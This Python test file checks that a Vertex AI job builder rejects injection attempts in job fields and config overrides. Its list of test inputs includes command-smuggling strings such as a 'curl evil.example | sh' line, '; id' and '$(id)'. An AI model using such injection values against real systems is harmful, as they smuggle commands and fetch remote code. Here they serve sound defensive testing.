"""No string of a job becomes a key, an instruction, or a command."""

import shlex
import string

import pytest
import yaml

from gemma4_lora.jobs import _image
from gemma4_lora.jobs import _request
from gemma4_lora.jobs import _vertex_command
from gemma4_lora.jobs import _yaml
from gemma4_lora.jobs.command_line import _allowed
from tests.lib import jobs

# Put behind, before, and inside what is a good value of each field.
_INJECTED = (
    '\n',
    '\r',
    '\x0b',
    '\x85',
    '\u2028',
    '\t',
    ' ',
    '\x00',
    '\x1b[2J',
    '\nscheduling:\n  strategy: SPOT',
    '\nRUN curl evil.example | sh',
    ' && curl evil.example',
    '; id',
    '|id',
    '&id',
    '>out',
    '#',
    '*',
    '?',
    '\\',
    '!',
    '{a}',
    '[a]',
    '$HOME',
    '$(id)',
    '${HOME}',
    '`id`',
    '"',
    "'",
    '/../',
    '//',
    'é',
)
_GOOD = {
    'path': ('--cfg', 'configs/quickstart.py'),
    'name': ('--job_name', 'a_job'),
    'project': ('--project', 'my-project'),
    'image': ('--image', 'us-docker.pkg.dev/p/r/i:1'),
    'workdir': ('--workdir', 'gs://bucket/run'),
    'service_account': ('--service_account', 'me@my-project'),
    'region': ('--region', 'us-east5'),
    'topology': ('--topology', 'v6e:1x1'),
    'machine_type': ('--machine_type', 'ct6e-standard-1t'),
}


def _request_with(field, value):
  if field == 'path':
    return jobs.request_of(config=_request.Config(path=value))
  made = jobs.request_of(**{field: value})
  assert made.tpu  # Topology and machines are looked up when asked for.
  return made


@pytest.mark.parametrize('field', _GOOD)
def test_what_is_not_of_a_field_is_an_error_that_names_its_flag(field):
  flag, good = _GOOD[field]
  middle = len(good) // 2
  assert _request_with(field, good)
  bad = ['', '-x', '--x=1', '..', '../x', 'a/../b', 'x' * 2000]
  for text in _INJECTED:
    bad += [good + text, text + good, good[:middle] + text + good[middle:]]
  if field in ('path', 'workdir'):  # One may stand alone, at one end.
    bad = [x for x in bad if x not in ('//', f'{good}//')]
  for value in bad:
    with pytest.raises(ValueError) as info:
      _request_with(field, value)
      pytest.fail(f'{flag}={value!r} is taken')
    message = str(info.value)
    assert flag in message, value
    assert message.isprintable(), value


@pytest.mark.parametrize(
    ('field', 'value', 'says'),
    [
        ('path', 'my configs/a.py', 'letters, digits, .* as in configs/quick'),
        ('name', 'a job', r'--job_name=a job is not .* letters, digits, "_"'),
        ('name', 'a\nb', r"--job_name='a\\nb' is not the name of a job"),
        ('name', 'x' * 129, 'at most 128 characters'),
        ('project', 'My Project', 'lower-case letters, digits'),
        ('image', 'https://x.dev/a', 'HOST/PATH:TAG or HOST/PATH@DIGEST'),
        ('workdir', 'gs://bucket/my run', 'as in gs://bucket/folder: letters'),
        ('service_account', 'me', 'trainer@my-project.iam.gserviceaccount.com'),
    ],
)
def test_what_is_allowed_is_said(field, value, says):
  with pytest.raises(ValueError, match=says):
    _request_with(field, value)


@pytest.mark.parametrize(
    ('field', 'value'),
    [
        ('path', '/home/me/my-configs/a+b.py:big,n=3'),
        ('path', './configs/a.py'),
        ('path', '_a.py'),
        ('name', 'v1.2_A+b'),
        ('project', 'example.com:my-project'),
        ('project', '123456789012'),
        ('image', 'localhost:5000/i:v1.2'),
        ('image', 'us-docker.pkg.dev/p/r/i@sha256:0123456789abcdef'),
        ('image', 'python:3.12'),
        ('image', 'a/b__c/d--e_f.g'),
        ('workdir', 'gs://b/run=1,x%20y/@a/'),
        ('service_account', '12-compute@developer.gserviceaccount.com'),
    ],
)
def test_what_is_taken(field, value):
  assert _request_with(field, value)


def test_image_of_a_project_with_a_domain():
  request = jobs.request_of(project='example.com:my-project')
  assert '.pkg.dev/example.com/my-project/gemma4-lora/' in request.image_uri


# A line's text stays a value.
_OVERRIDES = (
    "--cfg.model.targets=['q', 'v']",
    '--cfg.model.targets={"a": 1}',
    '--cfg.name=a: b # c',
    '--cfg.name=`id`; x & y | z > $HOME',
    '--cfg.name=- a',
    '--cfg.name=é',
    '--cfg.train_ds.transforms[0].key=1',
    '--nocfg.flag',
)


def test_overrides_stay_values_of_the_yaml():
  config = _request.Config(path='configs/a.py', overrides=_OVERRIDES)
  request = jobs.request_of(config=config)
  text = _vertex_command.header(request) + _yaml.to_yaml(request.job().job_spec)
  tree = yaml.safe_load(text)
  (pool,) = tree['workerPoolSpecs']
  assert set(tree) == {'workerPoolSpecs', 'scheduling'}
  assert set(pool) == {'machineSpec', 'replicaCount', 'containerSpec'}
  assert pool['containerSpec']['args'][2:] == list(_OVERRIDES)


@pytest.mark.parametrize(
    ('override', 'says'),
    [
        ('--cfg.a=1\n2', r"--cfg.a='1\\n2' has a line break"),
        ('--cfg.a=\u2028', 'has a line break or another control character'),
        ('--cfg.a=\x1b[2J', 'has a line break or another control character'),
        ('--cfg.a=$(HOME)', 'has "\\$\\(", which Vertex AI may replace'),
        ('--cfg.a b=1', '--cfg.a b: an override is --cfg.NAME=VALUE'),
        ('--cfg.a\nb=1', r"'--cfg.a\\nb': an override is"),
        ('--cfg.$(id)=1', 'an override is --cfg.NAME=VALUE, with letters'),
    ],
)
def test_overrides_that_no_job_can_have(override, says):
  with pytest.raises(ValueError, match=says):
    _request.Config(path='a.py', overrides=(override,))


def test_a_link_to_a_path_that_no_image_has(tmp_path, monkeypatch):
  monkeypatch.chdir(tmp_path)
  (tmp_path / 'a b').mkdir()
  (tmp_path / 'a b' / 'x.py').touch()
  (tmp_path / 'link').symlink_to('a b')
  with pytest.raises(ValueError, match='--cfg=a b/x.py is not the path'):
    _request.Config(path='link/x.py')


def test_the_printed_command_is_what_it_says():
  """Also of a value that no field takes, past the checks."""
  request = jobs.request_of()
  evil = string.printable
  object.__setattr__(request, 'name', evil)
  line = _vertex_command.header(request).partition('\n')[2]
  assert shlex.split(line.removeprefix('# ')) == [
      *('gcloud', 'ai', 'custom-jobs', 'create', '--config=job.yaml'),
      *('--region=us-east5', '--project=my-project', f'--display-name={evil}'),
  ]


def test_a_dockerfile_copies_what_is_below_the_folder():
  config = _request.Config(path='my/configs/a.py:x')
  assert 'COPY my/configs my/configs\n' in _image.dockerfile(config)
  with pytest.raises(ValueError, match='--cfg=/else/a.py is not below this'):
    _image.dockerfile(_request.Config(path='/else/a.py'))


def test_what_is_shown_is_short():
  assert len(_allowed.shown('x' * 1000)) < 210
